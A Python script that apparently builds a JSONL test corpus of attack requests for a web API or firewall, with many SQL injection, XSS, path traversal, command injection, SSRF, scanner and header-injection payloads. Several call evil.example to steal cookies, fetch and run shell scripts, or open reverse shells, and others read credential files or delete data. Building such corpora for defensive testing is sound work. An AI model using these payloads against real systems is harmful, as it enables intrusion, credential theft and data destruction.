# Generates attacks.jsonl: payload classes from OWASP WSTG / CRS test docs and PayloadsAllTheThings, re-typed by hand.
import json, urllib.parse as u
out = []
def q(cat, payload, param='q', path='/api/products/search', method='GET'):
    out.append({'category': cat, 'method': method, 'url': f"{path}?{param}={u.quote(payload, safe='')}"})
def raw(cat, url, headers=None, method='GET', body=None, ct=None):
    e = {'category': cat, 'method': method, 'url': url}
    if headers: e['headers'] = headers
    if body is not None: e['body'] = body; e['headers'] = {**(headers or {}), 'content-type': ct}
    out.append(e)

sqli = [
 "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "admin'--", "admin' #", "1' AND 1=1--", "1 OR 1=1",
 "1' ORDER BY 3--", "1' UNION SELECT null,null--", "-1 UNION ALL SELECT username,password FROM users",
 "1; DROP TABLE users--", "'; EXEC xp_cmdshell('dir')--", "1' AND SLEEP(5)--", "1' AND BENCHMARK(5000000,MD5(1))--",
 "1'; WAITFOR DELAY '0:0:5'--", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
 "1' AND extractvalue(1,concat(0x7e,version()))--", "' UNION/**/SELECT/**/1,2,3--", "1'/**/OR/**/'1'='1",
 "') OR ('x'='x", "1' OR 'a'='a", "' or ''='", "1 AND 1=2", "' HAVING 1=1--", "' GROUP BY columnnames having 1=1 --",
 "1' AND (SELECT SUBSTRING(@@version,1,1))='5", "1;SELECT pg_sleep(5)--", "1' || pg_sleep(5)--",
 "' UNION SELECT load_file('/etc/passwd')--", "1' INTO OUTFILE '/var/www/shell.php'--", "%27%20OR%20%271%27%3D%271",
 "1/*!50000UNION*/ /*!50000SELECT*/ 1,2,3", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
 "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "' OR 'x'='x'#", "1 UNION SELECT @@version", "' or true--",
 "1' and updatexml(1,concat(0x7e,(select user())),1)--", "admin\" --", "10 or 2>1", "' OR EXISTS(SELECT * FROM users)--",
 "1; INSERT INTO users VALUES('hacker','pw')--", "'; SHUTDOWN--", "1 UNION SELECT table_name FROM information_schema.tables",
 "ＵＮＩＯＮ ＳＥＬＥＣＴ 1,2", "' AnD 1=1 aNd ''='",
]
for i, p in enumerate(sqli):
    q('sqli', p, param=['id', 'q', 'user', 'sort'][i % 4])
raw('sqli', '/api/users/1%27%20or%20%271%27%3D%271')
raw('sqli', '/api/users?id=1%2527%2520OR%25201%253D1--')
raw('sqli', '/api/login', method='POST', body=json.dumps({'username': "admin' OR '1'='1", 'password': 'x'}), ct='application/json')
raw('sqli', '/api/login', method='POST', body='user=admin%27--&pass=x', ct='application/x-www-form-urlencoded')
raw('sqli', '/api/products', headers={'cookie': "session=abc; tracking=1' UNION SELECT password FROM users--"})

xss = [
 "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><script>alert(document.cookie)</script>",
 "javascript:alert(1)", "<iframe src=\"javascript:alert(1)\">", "<body onload=alert('xss')>", "'\"><img src=x onerror=prompt(1)>",
 "<ScRiPt>alert(1)</sCrIpT>", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
 "<a href=\"javascript:alert(1)\">x</a>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
 "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
 "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<embed src=javascript:alert(1)>",
 "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>", "<svg/onload=alert`1`>", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
 "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//", "<base href=\"//evil.example/\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
 "<img src=\"x\" onerror=\"document.location='http://evil.example/?c='+document.cookie\">", "\";alert(String.fromCharCode(88,83,83));//",
 "<script src=//evil.example/x.js></script>", "＜script＞alert(1)＜/script＞", "<img src=x oNeRrOr=confirm(1)>",
 "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "&#60;script&#62;alert(1)&#60;/script&#62;", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
 "data:text/html,<script>alert(1)</script>", "<form action=javascript:alert(1)><input type=submit>", "<isindex type=image src=1 onerror=alert(1)>",
 "</title><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "<div style=\"background:url(javascript:alert(1))\">",
]
for i, p in enumerate(xss):
    q('xss', p, param=['q', 'name', 'comment', 'redirect'][i % 4])
raw('xss', '/api/comments', method='POST', body=json.dumps({'text': '<script>fetch("//evil.example?c="+document.cookie)</script>'}), ct='application/json')
raw('xss', '/api/profile', headers={'referer': 'https://example.com/"><script>alert(1)</script>'})
raw('xss', '/api/search', headers={'user-agent': 'Mozilla/5.0 <script>alert(1)</script>'})

lfi = [
 "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd",
 "..\\..\\..\\windows\\win.ini", "%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc%c0%afpasswd", "/etc/passwd",
 "/etc/shadow", "../../../../../../proc/self/environ", "file:///etc/passwd", "..%5c..%5cboot.ini", "../../../var/log/apache2/access.log",
 "/proc/self/cmdline", "C:\\Windows\\System32\\drivers\\etc\\hosts", "../../.env", "..;/..;/etc/passwd", "....\\\\....\\\\windows\\win.ini",
 "/var/www/../../etc/passwd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd%00", "..%252f..%252f..%252fetc/passwd",
 "php://filter/convert.base64-encode/resource=index.php", "php://input", "expect://id", "phar://uploads/x.jpg/shell",
 "zip://uploads/x.zip%23shell.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
]
for i, p in enumerate(lfi):
    cat = 'remote-file-inclusion' if '://' in p else 'path-traversal'
    q(cat, p, param=['file', 'page', 'path', 'template'][i % 4], path='/api/files')
for path in ['/api/files/..%2f..%2f..%2fetc%2fpasswd', '/api/%2e%2e/%2e%2e/etc/passwd', '/.env', '/.git/config', '/api/.git/HEAD',
             '/wp-config.php', '/static/..%252f..%252fetc/passwd', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', '/api/download/%2e%2e%5c%2e%2e%5cwindows%5cwin.ini',
             '/server-status', '/.aws/credentials', '/api/users/1%00.json']:
    raw('path-traversal', path)

cmdi = [
 "; cat /etc/passwd", "| id", "&& whoami", "$(uname -a)", "`ls -la`", "127.0.0.1; ls -la", "127.0.0.1 | nc evil.example 4444 -e /bin/sh",
 "x;wget http://evil.example/s.sh -O /tmp/s;sh /tmp/s", "a||ping -c 10 127.0.0.1||", ";curl http://evil.example/$(whoami)", "%3Bcat%20%2Fetc%2Fpasswd",
 "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}", "cat${IFS}/etc/passwd", "{cat,/etc/passwd}",
 "() { :; }; /bin/bash -c 'cat /etc/passwd'", "x; /usr/bin/id", "|| cmd.exe /c dir", "& powershell -enc SQBFAFgA", "; sleep 10",
 "system('id')", "<?php system($_GET['c']); ?>", "{{7*7}}", "${7*7}", "__import__('os').system('id')", "; rm -rf /", "\nid",
 "test; echo $PATH", "$(sleep 5)", "`curl evil.example`", "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
]
for i, p in enumerate(cmdi):
    q('command-injection', p, param=['host', 'cmd', 'name', 'ip'][i % 4], path='/api/tools/ping')
raw('command-injection', '/api/search', headers={'user-agent': '${jndi:ldap://evil.example/ua}'})
raw('command-injection', '/api/search', headers={'user-agent': '() { :; }; echo; /bin/bash -c "cat /etc/passwd"'})
raw('command-injection', '/api/search', headers={'referer': '${jndi:dns://evil.example/ref}'})
raw('command-injection', '/api/hooks', method='POST', body=json.dumps({'url': 'x; curl http://evil.example/p | sh'}), ct='application/json')

rfi = [
 "http://evil.example/shell.txt?", "https://evil.example/c99.txt", "http://evil.example/shell.php?", "ftp://evil.example/x.txt?",
 "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
 "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stat", "http://0x7f000001/admin", "http://2130706433/",
]
for i, p in enumerate(rfi):
    q('remote-file-inclusion', p, param=['page', 'url', 'include', 'src'][i % 4], path='/api/fetch')

for ua in ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)',
           'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Mozilla/5.0 zgrab/0.x',
           'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
           'gobuster/3.6', 'Fuzz Faster U Fool v2.1.0-dev', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Wfuzz/3.1.0',
           'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Acunetix',
           'commix/v3.8 (https://commixproject.com)', 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1) Havij', 'DirBuster-1.0-RC1']:
    raw('scanner', '/api/products', headers={'user-agent': ua})

for p in ["%0d%0aSet-Cookie:%20admin=true", "x%0d%0aLocation:%20http://evil.example", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"]:
    raw('protocol', f"/api/redirect?lang={p}")

with open('attacks.jsonl', 'w') as f:
    for e in out: f.write(json.dumps(e, ensure_ascii=False) + '\n')
print(len(out))
